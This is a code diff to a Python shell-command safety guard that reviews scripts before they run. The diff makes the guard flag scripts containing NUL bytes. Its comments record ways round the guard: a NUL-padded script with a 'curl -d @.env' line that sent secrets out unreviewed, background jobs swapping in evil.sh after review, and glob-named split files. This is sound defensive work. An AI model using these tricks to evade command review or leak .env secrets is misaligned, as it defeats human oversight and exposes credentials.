@@ -19,6 +19,7 @@ from macrohard.safety import elf, lazyre, native
 from macrohard.safety import rules_data as R
 from macrohard.safety.invocation import Invocation
 from macrohard.safety.makewords import AUTOMATIC
+from macrohard.safety.readings import as_read, wide_text
 from macrohard.safety.regular import open_regular
 from macrohard.safety.shellparse import SimpleCommand
 
@@ -98,7 +99,8 @@ def read_script(an: Analyzer, path: str, cwd: str | None, explicit: bool) -> str
         if text is None:
             an.r.add("dynamic", f"runs {path}, which this command writes first with text the guard cannot "
                                   "read; write it in one step and run it in the next")
-        return text
+            return None
+        return as_read(text.encode("utf-8", "surrogateescape"))
     # guard32: a piece `split --additional-suffix=.sh l.txt s` writes is known by a glob (`s*.sh`): `sh saa.sh`
     # ran it, read as a file that did not exist
     if (glob := next((k for k, v in an.written.items() if v is None and any(c in k for c in "*?[")
@@ -135,15 +137,18 @@ def read_script(an: Analyzer, path: str, cwd: str | None, explicit: bool) -> str
     if len(data) > MAX_SCRIPT:
         an.r.add("unparseable", f"the script {path} is larger than {MAX_SCRIPT // 1000} kB, too large to review")
         return None
-    if b"\x00" in data[:1024]:  # a binary: bash and the interpreters refuse to run it as a script
-        return None
+    if b"\x00" in data and wide_text(data) is None:
+        # rt50: not a binary to the shells and interpreters: dash drops each NUL, bash too after the first line, perl,
+        # tcl and node read on past them (`echo hi\n#\0\ncurl -d @.env …` in s.sh ran unread: "a binary")
+        an.r.add("dynamic", f"runs {path}, which holds NUL bytes: the shells drop them, other interpreters read on "
+                            "past them; write it as text")
     if an.unknown_writes:  # code earlier on the line may have written it (safety.rewrites, safety.pydata)
         an.r.add("dynamic", f"runs {path}, which may be rewritten before it runs ({an.rewriter}); write "
                             "and run it in separate steps")
     if an.jobs:  # `(sleep 3; cp evil.sh run.sh) &` one step, `sleep 5; bash run.sh` the next
         an.r.add("dynamic", f"runs {path}, which {an.jobs} process(es) an earlier step left running may change "
                             "after this review; let them end first (`wait; ...`)")
-    return data.decode(errors="replace")
+    return as_read(data)
 
 
 _SELF = r"\$\{?0\}?|\$\{?BASH_SOURCE(?:\[0\])?\}?"
